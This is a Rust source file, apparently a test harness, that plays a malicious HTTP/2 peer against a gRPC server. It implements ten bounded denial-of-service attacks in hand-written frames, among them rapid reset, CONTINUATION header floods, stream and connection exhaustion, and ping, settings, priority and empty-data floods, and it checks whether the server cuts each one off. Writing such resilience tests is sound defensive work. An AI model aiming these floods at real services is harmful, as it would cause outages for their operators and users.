//! A malicious peer with a certificate, which misuses its connection. Each attack is bounded, so that it
//! ends by itself.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use chengji_transport::IdentityFiles;
use h2::SendStream;
use h2::client::{ResponseFuture, SendRequest};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::{oneshot, watch};
use tokio::task::JoinHandle;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// The kind of an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests a stream and never reads it.
    NeverReads,
    /// Sends pieces of a message that never ends.
    NeverStopsSending,
    /// Opens 10,000 streams and finishes none.
    OpensManyStreams,
    /// Resets 10,000 calls as soon as they are made.
    ResetsAtOnce,
    /// Sends headers until it is cut off, up to 1 GiB.
    SendsHugeHeaders,
    /// Opens connection after connection and sends nothing.
    OpensConnections,
    /// Sends pings, settings and windows until it is cut off, up to 64 MiB.
    FloodsFrames,
    /// The same without a certificate.
    FloodsFramesUnknown,
    /// The same with priorities.
    FloodsPriorities,
    /// The same with empty data frames, in a call that it has begun.
    FloodsEmptyData,
}

impl Attack {
    /// All kinds.
    pub const ALL: [Self; 10] = [
        Self::NeverReads,
        Self::NeverStopsSending,
        Self::OpensManyStreams,
        Self::ResetsAtOnce,
        Self::SendsHugeHeaders,
        Self::OpensConnections,
        Self::FloodsFrames,
        Self::FloodsFramesUnknown,
        Self::FloodsPriorities,
        Self::FloodsEmptyData,
    ];

    /// Returns true if the attack, at progress `far`, went far enough to do harm unless stopped.
    pub fn arrived(self, far: u64) -> bool {
        match self {
            // Streams, or connections.
            Self::NeverReads | Self::NeverStopsSending => far > 0,
            Self::OpensManyStreams | Self::OpensConnections | Self::ResetsAtOnce => far > 20,
            // Bytes.
            Self::SendsHugeHeaders => far > 16 << 10,
            // More frames than a burst allows.
            Self::FloodsFrames | Self::FloodsPriorities | Self::FloodsEmptyData => {
                far > 4 * 500 * 9
            }
            Self::FloodsFramesUnknown => far > 4 * 50 * 9,
        }
    }

    /// Returns true if it floods the connection with frames without a call.
    pub fn is_flood(self) -> bool {
        self.flood().is_some()
    }

    /// Begins the attack with this identity, on the current runtime.
    pub fn begin(self, address: &str, files: &IdentityFiles) -> UnderWay {
        let (address, files) = (address.to_owned(), files.clone());
        let (far, reached) = watch::channel(Reached::default());
        let (end, until_end) = oneshot::channel();
        let task = tokio::spawn(async move {
            let held = self.run(&address, &files, &far).await;
            far.send_modify(|reached| reached.is_all = true);
            // Open connections are held until the attack is ended.
            let _ = until_end.await;
            drop(held);
        });
        UnderWay { reached, end, task }
    }

    /// Runs the attack once; reports progress, and returns the open connections.
    async fn run(
        self,
        address: &str,
        files: &IdentityFiles,
        far: &watch::Sender<Reached>,
    ) -> Option<Holds> {
        if self == Self::OpensConnections {
            return Some(Holds::Connections(connections(address, far).await));
        }
        if self == Self::SendsHugeHeaders {
            headers(address, files, far).await;
            return None;
        }
        if let Some(flood) = self.flood() {
            frames(address, files, flood, far).await;
            return None;
        }
        let (client, connection) = connect(address, files).await?;
        let mut held = Vec::new();
        for done in 1..=self.streams() {
            let ready = client.clone().ready();
            let Ok(Ok(mut ready)) = tokio::time::timeout(PATIENCE, ready).await else {
                break;
            };
            let Ok((answer, body)) = ready.send_request(request(self.path()), false) else {
                break;
            };
            held.extend(self.go_on(body).await.map(|body| (answer, body)));
            reach(far, done);
        }
        Some(Holds::Streams {
            _streams: held,
            _client: client,
            _connection: connection,
        })
    }

    /// Continues a call that has begun; returns the rest of it.
    async fn go_on(self, mut body: SendStream<Bytes>) -> Option<SendStream<Bytes>> {
        match self {
            Self::NeverReads => {
                let _ = body.send_data(Bytes::from_static(&[0; 5]), true);
            }
            Self::NeverStopsSending => send_zeros(&mut body).await,
            Self::ResetsAtOnce => {
                body.send_reset(h2::Reason::CANCEL);
                return None;
            }
            _ => {}
        }
        Some(body)
    }

    fn streams(self) -> u64 {
        match self {
            Self::NeverReads => 64,
            Self::NeverStopsSending => 4,
            _ => 10_000,
        }
    }

    fn path(self) -> &'static str {
        match self {
            Self::NeverReads => "/chengji.v1.LogService/Follow",
            _ => "/chengji.v1.DirectoryService/Search",
        }
    }

    fn flood(self) -> Option<Flood> {
        let (ping, settings, window) = (
            frame(0x06, 0, &[0; 8]),
            frame(0x04, 0, &[]),
            frame(0x08, 0, &[0, 0, 0, 1]),
        );
        let some = match self {
            Self::FloodsFrames | Self::FloodsFramesUnknown => [ping, settings, window].concat(),
            // For stream 1, which depends on none, with the default weight.
            Self::FloodsPriorities => frame(0x02, 1, &[0, 0, 0, 0, 15]),
            Self::FloodsEmptyData => frame(0x00, 1, &[]),
            _ => return None,
        };
        Some(Flood {
            frames: some.repeat(300),
            is_known: self != Self::FloodsFramesUnknown,
            is_in_a_call: self == Self::FloodsEmptyData,
        })
    }
}

/// An attack in progress.
pub struct UnderWay {
    reached: watch::Receiver<Reached>,
    end: oneshot::Sender<()>,
    task: JoinHandle<()>,
}

impl UnderWay {
    /// Its progress: streams, connections or bytes.
    pub fn far(&self) -> u64 {
        self.reached.borrow().far
    }

    /// Returns true if it only holds its connections open.
    pub fn is_all(&self) -> bool {
        self.reached.borrow().is_all
    }

    /// Returns true if the other side ended the flooded connection.
    pub fn is_cut(&self) -> bool {
        self.reached.borrow().is_cut
    }

    /// Waits until [`Self::is_all`].
    pub async fn until_all(&mut self) {
        let _ = self.reached.wait_for(|reached| reached.is_all).await;
    }

    /// Ends the attack.
    pub async fn end(self) {
        let _ = self.end.send(());
        self.task.await.unwrap();
    }
}

#[derive(Clone, Copy, Debug, Default)]
struct Reached {
    far: u64,
    is_all: bool,
    is_cut: bool,
}

fn reach(reached: &watch::Sender<Reached>, far: u64) {
    reached.send_modify(|reached| reached.far = far);
}

/// The resources held open.
enum Holds {
    Connections(#[expect(dead_code, reason = "held for its drop alone")] Vec<TcpStream>),
    Streams {
        _streams: Vec<(ResponseFuture, SendStream<Bytes>)>,
        _client: SendRequest<Bytes>,
        _connection: Driven,
    },
}

/// Frames that are sent repeatedly.
struct Flood {
    frames: Vec<u8>,
    is_known: bool,
    is_in_a_call: bool,
}

/// Timeout of each step: what is not accepted by then counts as refused.
const PATIENCE: Duration = Duration::from_millis(200);

/// Timeout of a flood: a server that does not cut it accepts all of it eventually.
const CUT_WITHIN: Duration = Duration::from_secs(30);

/// Announces a message of 3 MiB; zeros follow while they are accepted.
async fn send_zeros(body: &mut SendStream<Bytes>) {
    let _ = body.send_data(Bytes::from_static(&[0, 0, 0x30, 0, 0]), false);
    body.reserve_capacity(1 << 20);
    for _ in 0..1_000 {
        let granted = std::future::poll_fn(|cx| body.poll_capacity(cx));
        let Ok(Some(Ok(granted))) = tokio::time::timeout(PATIENCE, granted).await else {
            return;
        };
        let zeros = Bytes::from(vec![0; granted]);
        if body.send_data(zeros, false).is_err() {
            return;
        }
        body.reserve_capacity(1 << 20);
    }
}

async fn connections(address: &str, far: &watch::Sender<Reached>) -> Vec<TcpStream> {
    let mut open = Vec::new();
    for _ in 0..200 {
        if let Ok(Some(tcp)) = tokio::time::timeout(PATIENCE, tcp(address)).await {
            open.push(tcp);
            reach(far, open.len() as u64);
        }
    }
    open
}

/// Writes the frames by hand: a HEADERS frame without an end, and CONTINUATION after it.
async fn headers(address: &str, files: &IdentityFiles, far: &watch::Sender<Reached>) {
    let Some(mut tls) = handshake(address, files).await else {
        return;
    };
    if tls.write_all(PREFACE).await.is_err() {
        return;
    }
    // A literal field without indexing, name `a`, value of 16 KiB less the bytes before it.
    let mut field = vec![0x00, 0x01, b'a', 0x7f, 0x80 | 0x61, 0x7e];
    field.resize(6 + 0x3f00 + 0x7f + 0x61, b'x');
    field.truncate(16_000);
    let mut sent = 0_u64;
    let mut kind = 0x01;
    while sent < 1 << 30 {
        let length = u32::try_from(field.len()).unwrap_or_default().to_be_bytes();
        let head = [length[1], length[2], length[3], kind, 0, 0, 0, 0, 1];
        let frame = [&head[..], &field].concat();
        match tokio::time::timeout(PATIENCE, tls.write_all(&frame)).await {
            Ok(Ok(())) => sent += frame.len() as u64,
            _ => return,
        }
        reach(far, sent);
        kind = 0x09;
    }
}

/// Writes frames by hand, repeatedly, while they are accepted.
async fn frames(address: &str, files: &IdentityFiles, flood: Flood, far: &watch::Sender<Reached>) {
    let Some(tls) = handshake_as(address, files, flood.is_known).await else {
        return;
    };
    let (mut from, mut to) = tokio::io::split(tls);
    // Responses are read, so that the server is not blocked.
    let reading = tokio::spawn(async move {
        let mut sink = vec![0; 16 << 10];
        while from.read(&mut sink).await.is_ok_and(|read| read > 0) {}
    });
    let begin = match flood.is_in_a_call {
        true => [PREFACE, &beginning_of_a_call()].concat(),
        false => PREFACE.to_vec(),
    };
    let mut sent = 0;
    if to.write_all(&begin).await.is_ok() {
        while sent < 64 << 20 {
            match tokio::time::timeout(CUT_WITHIN, to.write_all(&flood.frames)).await {
                Ok(Ok(())) => sent += flood.frames.len() as u64,
                Ok(Err(_)) => {
                    far.send_modify(|reached| reached.is_cut = true);
                    break;
                }
                Err(_) => break,
            }
            reach(far, sent);
        }
    }
    reading.abort();
}

/// The preface of a connection, and empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

fn frame(kind: u8, stream: u8, content: &[u8]) -> Vec<u8> {
    let head = [0, 0, content.len() as u8, kind, 0, 0, 0, 0, stream];
    [&head[..], content].concat()
}

/// The complete headers of a call on stream 1, without its end.
fn beginning_of_a_call() -> Vec<u8> {
    const END_HEADERS: u8 = 0x04;
    // `:method: POST` and `:scheme: https` by their indexes in the static table of HPACK.
    let mut fields = vec![0x83, 0x87];
    let mut literal = |place: &[u8], value: &str| {
        fields.extend(place);
        fields.push(value.len() as u8);
        fields.extend(value.as_bytes());
    };
    literal(&[0x04], "/chengji.v1.DirectoryService/Search");
    literal(&[0x01], "node");
    literal(&[0x0f, 0x10], "application/grpc");
    literal(&[&[0x00, 2][..], b"te"].concat(), "trailers");
    let mut headers = frame(0x01, 1, &fields);
    headers[4] = END_HEADERS;
    headers
}

/// A connection from an address of its own, as from another machine.
async fn tcp(address: &str) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(([127, 200, 200, 200], 0).into()).ok()?;
    socket.connect(address.parse().ok()?).await.ok()
}

fn request(path: &str) -> http::Request<()> {
    http::Request::post(format!("http://node{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap()
}

/// A driven connection, which ends when this is dropped.
struct Driven(tokio::task::JoinHandle<()>);

impl Drop for Driven {
    fn drop(&mut self) {
        self.0.abort();
    }
}

async fn connect(address: &str, files: &IdentityFiles) -> Option<(SendRequest<Bytes>, Driven)> {
    let tls = handshake(address, files).await?;
    let (client, connection) = h2::client::handshake(tls).await.ok()?;
    let driven = Driven(tokio::spawn(async move {
        let _ = connection.await;
    }));
    Some((client, driven))
}

async fn handshake(address: &str, files: &IdentityFiles) -> Option<TlsStream<TcpStream>> {
    handshake_as(address, files, true).await
}

async fn handshake_as(
    address: &str,
    files: &IdentityFiles,
    is_known: bool,
) -> Option<TlsStream<TcpStream>> {
    let certificates = |path: &Path| -> Vec<CertificateDer<'static>> {
        let found = CertificateDer::pem_file_iter(path).unwrap();
        found.collect::<Result<_, _>>().unwrap()
    };
    let mut roots = RootCertStore::empty();
    for certificate in certificates(&files.ca) {
        roots.add(certificate).unwrap();
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(roots);
    let mut config = match is_known {
        true => config
            .with_client_auth_cert(
                certificates(&files.identity),
                PrivateKeyDer::from_pem_file(&files.identity).unwrap(),
            )
            .unwrap(),
        false => config.with_no_client_auth(),
    };
    config.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tcp(address).await?;
    // Every server certificate has this name, too.
    let name = ServerName::try_from("localhost").unwrap();
    TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
        .ok()
}
